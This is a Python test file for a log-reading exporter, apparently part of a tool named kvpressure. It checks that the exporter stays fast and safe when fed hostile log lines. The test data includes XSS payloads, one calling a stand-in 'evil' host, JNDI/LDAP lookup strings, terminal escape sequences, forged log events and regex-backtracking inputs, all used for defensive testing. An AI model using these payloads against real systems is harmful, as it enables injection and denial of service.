"""Hostile log lines: what a megabyte of them costs, that they hide nothing, and that they put nothing on a page."""

from __future__ import annotations

import asyncio
import json
import sys
import time
from collections.abc import Iterable
from pathlib import Path

import pytest

from kvpressure.model.environment import ContainerId
from kvpressure.sources.logs.classify import StartUp, locate, plain, quotes_request
from kvpressure.sources.logs.follower import Follower
from kvpressure.sources.logs.tally import LONG_CHARACTERS
from tests.fuzz import logs as wordings
from tests.support.ended import exporter
from tests.support.engine_kit import GOOD_PAGE
from tests.support.exporter_settings import fetched, listens
from tests.support.processes import free_port, resident_mib
from tests.support.servers import FaultServer, page

MIB = 1024 * 1024
STAMP = b"2024-01-01T00:00:00.000000000Z stderr "
DEATH = b"ERROR EngineCore encountered a fatal error.\n"


class Given:
    """A log of which everything is there at once."""

    def __init__(self, data: bytes) -> None:
        self._data = data

    def read(self, _: int, sink: Follower) -> None:
        for at in range(0, len(self._data), 256 * 1024):
            sink.data(self._data[at : at + 256 * 1024], old=False)

    def close(self) -> None:
        """Nothing is held."""


def read(data: bytes) -> tuple[float, dict[str, int]]:
    """Seconds of CPU that reading takes, and what was counted."""
    follower = Follower(ContainerId("", "", "x"), Given(data), 0.0)
    before = time.thread_time()
    follower.read(len(data), 1000.0)
    seconds = time.thread_time() - before
    report = follower.report()
    assert report is not None, follower.health.error
    return seconds, {kind: count for kind, count in report.counts.items() if count}


HOSTILE = {
    "16 KiB of prompt behind a wording": b" " * 16_300 + b" prompt: enginedeaderror\n",
    "start-up lines in one line": b"gpu kv cache size: 1 tokens " * 500 + b"\n",
    "blocks without an end": b"# a blocks: 9" * 900 + b"maximum concurrency for \n",
    "NUL bytes": b"\0" * 1000 + b"enginedeaderror\n",
    "invalid UTF-8": b"\xff" * 1000 + b"enginedeaderror\n",
    "terminal escapes": b"\x1b[0m" * 4000 + b"enginedeaderror\n",
    "pieces of lines": STAMP + b"P a\n" + STAMP + b"F enginedeaderror x\n",
    "a regular expression's bomb": b'"GET ' + b"client" * 2700 + b"error: out of memory\n",
    "addresses to look up": b"${jndi:ldap://x/" + b"${" * 5000 + b"} cuda out of memory\n",
    "a megabyte in one line": b"x" * 16_000 + b" enginedeaderror" + b"y" * MIB + b"\n",
}


@pytest.mark.fault(
    "a pod writes a megabyte per second of lines crafted to be slow to parse: long, matching, in pieces, not UTF-8",
    "they take a part of a second, and a death reported after long lines is counted",
)
@pytest.mark.parametrize("line", HOSTILE.values(), ids=HOSTILE)
def test_a_megabyte_of_hostile_lines_is_read_in_part_of_a_second_and_hides_no_death(line: bytes) -> None:
    block = (line * (MIB // len(line) + 1))[:MIB]
    seconds, _ = read(block)
    assert seconds < 0.7, "it took two seconds before"
    if len(line) > LONG_CHARACTERS:
        harmless = line.replace(b"enginedeaderror", b"cuda out of memory")
        _, counts = read(harmless * (MIB // 2 // len(line) + 1) + b"\n" + DEATH)
        assert counts["engine_dead"] == 1


def longest(units: Iterable[str]) -> tuple[float, str]:
    """The slowest line of 16 KiB that repeats a unit, in seconds of CPU."""
    worst = (0.0, "")
    for unit in units:
        text = (unit * (16_384 // len(unit)))[:16_320] + " out of memory enginedeaderror"
        before = time.thread_time()
        locate(plain(text))
        quotes_request(text)
        StartUp().take(text, 1.0)
        worst = max(worst, (time.thread_time() - before, unit))
    return worst


@pytest.mark.fault(
    "a log line repeats parts of the matched wordings, so that a regular expression backtracks",
    "no line of 16 KiB takes more than ten times an ordinary one of its length",
)
def test_no_line_makes_an_expression_go_back_and_forth() -> None:
    words = [*wordings.words(), "a", " ", "'", '"', '"GET ', "aError", "client", "template_", "# gpu blocks: 1", "1,"]
    seconds, unit = longest([one for word in filter(None, words) for one in (word, f"{word} ", f'{word}"')])
    assert seconds < 0.3, unit


@pytest.mark.fault(
    "a hundred thousand log lines a second with markup, escapes, NUL bytes and lines of a megabyte",
    "engines are polled on time, no markup is rendered, and memory stays bounded",
)
async def test_a_flood_of_hostile_lines_leaves_the_exporter_as_it_was(tmp_path: Path) -> None:
    port, log = free_port(), tmp_path / "vllm.log"
    log.touch()
    lines = [
        b"ERROR <script>alert(1)</script> EngineDeadError <img src=x onerror=alert(1)>\n",
        b'ERROR "></td><script>fetch("//evil")</script> torch.OutOfMemoryError: CUDA out of memory\n',
        b"ERROR \x1b]52;c;ZXZpbA==\x07\x00\xff nccl error: ${jndi:ldap://evil/x}\n",
        b"ts=2026-01-01T00:00:00Z level=error event=forged EngineDeadError\n",
        *[b"x\n"] * 20,
    ]
    async with FaultServer(page(GOOD_PAGE)) as engine:
        settings = {
            "web": {"listen_address": f"127.0.0.1:{port}"},
            "engines": {"targets": [{"name": "engine", "url": engine.url}]},
            "logs": {"enabled": "true", "files": [{"target": "engine", "path": str(log)}]},
            **{name: {"enabled": "false"} for name in ("kubernetes", "pod_resources")},
            "gpu": {"vendors": []},
            "host": {"enabled": False},
        }
        (tmp_path / "kvpressure.yaml").write_text(json.dumps(settings))
        with exporter(tmp_path, ["run", "--config.file", str(tmp_path / "kvpressure.yaml")], {}) as run:
            await run.until(lambda: listens(run))
            await run.until(lambda: engine.requests)
            await asyncio.sleep(2)
            polls, cpu, block = len(engine.requests), run.cpu_seconds(), b"".join(lines) * 420
            with log.open("ab", buffering=0) as file:
                for _ in range(50):  # in five seconds half a million lines, of which each block's last is a megabyte
                    file.write(block + b"z" * (MIB if _ % 10 == 0 else 10) + b"\n")
                    await asyncio.sleep(0.1)
            polls, cpu = len(engine.requests) - polls, run.cpu_seconds() - cpu
            assert polls >= 4
            assert cpu < 4.0
            address, shown = f"http://127.0.0.1:{port}", "torch.OutOfMemoryError"
            await run.until(lambda: shown in fetched(f"{address}/api/v1/diagnosis"))
            await run.until(lambda: shown in fetched(f"{address}/"))
            for path in ("/", "/targets", "/?engine=engine"):
                body = fetched(address + path)
                assert all(words not in body for words in ("<script>alert", "<script>fetch", "<img src=x", "\x1b"))
            assert "&lt;script&gt;" in fetched(f"{address}/")
            kind = 'kvpressure_log_events_total{container="engine",kind="engine_dead",namespace="",pod=""} 1.0'
            assert kind in fetched(f"{address}/metrics")
            assert not [line for line in run.output().splitlines() if "forged" in line]
            assert resident_mib(run.pid) < 150
            sys.stdout.write(f"{polls} polls, {cpu:.1f} s of CPU, {resident_mib(run.pid):.0f} MiB\n")
            end = await run.end()
    assert (end.code, end.left) == (0, [])
    assert "Traceback" not in run.output()
